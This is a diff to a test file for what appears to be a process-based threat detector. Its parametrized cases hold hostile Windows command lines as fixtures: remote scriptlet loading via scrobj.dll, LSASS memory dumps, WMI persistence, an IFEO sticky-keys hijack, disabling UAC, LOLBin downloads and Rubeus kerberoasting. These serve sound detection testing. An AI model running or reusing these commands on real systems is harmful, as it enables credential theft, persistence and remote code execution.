@@ -51,6 +51,25 @@ def judge(subject: ProcessSubject) -> tuple[EvidenceVerdict, set[str]]:
         ("useradd -o -u 0 -g 0 backdoor", "process.root_user_creation"),
         ("reg save HKLM\\SAM C:\\Users\\Public\\sam.hive", "process.sam_hive_export"),
         ("mshta http://203.0.113.9/payload.hta", "process.script_host_remote"),
+        (
+            "/s /n /u /i:https://203.0.113.9/x.sct scrobj.dll",
+            "process.scriptlet_remote_registration",
+        ),
+        (
+            "notreg.exe /s /i:http://203.0.113.9/r scrobj.dll",
+            "process.scriptlet_remote_registration",
+        ),
+        (
+            'WMIC.exe /namespace:"\\\\root\\subscription" PATH CommandLineEventConsumer CREATE Name="x"',
+            "process.wmi_event_consumer",
+        ),
+        ("cmd.exe /Q /c dir 1> \\\\10.0.0.2\\ADMIN$\\__123.45 2>&1", "process.admin_share_output"),
+        (
+            "powershell -c &([scriptblock]::create((New-Object IO.StreamReader(x))))",
+            "process.powershell_stager",
+        ),
+        ("rdrleakdiag.exe /p 640 /o C:\\x /fullmemdmp /wait 1", "process.lsass_dump"),
+        ("dumper.exe -p lsass.exe -o out.dmp", "process.lsass_dump"),
     ],
 )
 def test_decisive_techniques_are_malicious(command: str, code: str) -> None:
@@ -75,6 +94,91 @@ def test_decisive_techniques_are_malicious(command: str, code: str) -> None:
 def test_ordinary_administration_is_not_a_threat(command: str) -> None:
     verdict, codes = judge(ProcessSubject(image=command.split(maxsplit=1)[0], command_line=command))
     assert verdict is EvidenceVerdict.NO_THREATS_FOUND, codes
+
+
+@pytest.mark.parametrize(
+    ("command", "code"),
+    [
+        ("rundll32.exe zipfldr.dll,RouteTheCall C:\\x\\a.exe", "process.rundll32_proxy"),
+        ("rundll32 url.dll,FileProtocolHandler C:\\x\\a.exe", "process.rundll32_proxy"),
+        ("rundll32.exe C:\\Users\\Public\\picture.jpg,Start", "process.rundll32_odd_module"),
+        ("pcalua.exe -a C:\\x\\a.exe", "process.lolbin_execute"),
+        ("forfiles /p C:\\Windows /m notepad.exe /c calc.exe", "process.lolbin_execute"),
+        (
+            "desktopimgdownldr /lockscreenurl:https://x.example/a.exe /eventName:x",
+            "process.lolbin_download",
+        ),
+        ("wmic /node:10.0.0.2 process call create calc.exe", "process.wmi_process_create"),
+        (
+            (
+                'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution '
+                'Options\\sethc.exe" /v Debugger /d cmd.exe'
+            ),
+            "process.ifeo_or_silent_exit_hijack",
+        ),
+        (
+            (
+                "reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System "
+                "/v EnableLUA /t REG_DWORD /d 0 /f"
+            ),
+            "process.uac_disabled",
+        ),
+        (
+            (
+                "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d "
+                "C:\\Users\\bob\\AppData\\Roaming\\u.exe"
+            ),
+            "process.autorun_from_user_folder",
+        ),
+        (
+            "netsh interface portproxy add v4tov4 listenport=8001 connectport=3389",
+            "process.port_forwarding",
+        ),
+        ("C:\\Tools\\Rubeus.exe kerberoast", "process.offensive_tool"),
+        ("powershell -nop -w hidden -noni -c calc", "process.hidden_bypass_powershell"),
+    ],
+)
+def test_windows_techniques_are_at_least_suspicious(command: str, code: str) -> None:
+    verdict, codes = judge(ProcessSubject(image=command.split(maxsplit=1)[0], command_line=command))
+    assert code in codes
+    assert verdict in {EvidenceVerdict.SUSPICIOUS, EvidenceVerdict.MALICIOUS}
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "rundll32.exe shell32.dll,Control_RunDLL desk.cpl",
+        "rundll32.exe C:\\Windows\\System32\\printui.dll,PrintUIEntry /il",
+        "netsh interface ip show config",
+        "reg add HKCU\\Software\\Vendor\\App /v Theme /d dark /f",
+        "reg query HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options",
+        "wmic process list brief",
+        "msiexec /i C:\\Installers\\app.msi /qn",
+        "schtasks /query /fo LIST",
+    ],
+)
+def test_ordinary_windows_administration_is_not_a_threat(command: str) -> None:
+    verdict, codes = judge(ProcessSubject(image=command.split(maxsplit=1)[0], command_line=command))
+    assert verdict is EvidenceVerdict.NO_THREATS_FOUND, codes
+
+
+def test_uac_bypass_and_remote_execution_parents() -> None:
+    verdict, codes = judge(
+        ProcessSubject(
+            image="C:\\Windows\\System32\\cmd.exe",
+            command_line="cmd.exe",
+            parent_image="C:\\Windows\\System32\\fodhelper.exe",
+        )
+    )
+    assert (verdict, codes) == (EvidenceVerdict.MALICIOUS, {"process.uac_bypass_child"})
+    verdict, codes = judge(
+        ProcessSubject(
+            image="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+            command_line="powershell.exe -c Get-Process",
+            parent_image="C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
+        )
+    )
+    assert (verdict, codes) == (EvidenceVerdict.SUSPICIOUS, {"process.remote_execution_child"})
 
 
 def test_a_document_application_starting_a_shell_is_malicious_and_an_ancestor_suspicious() -> None:
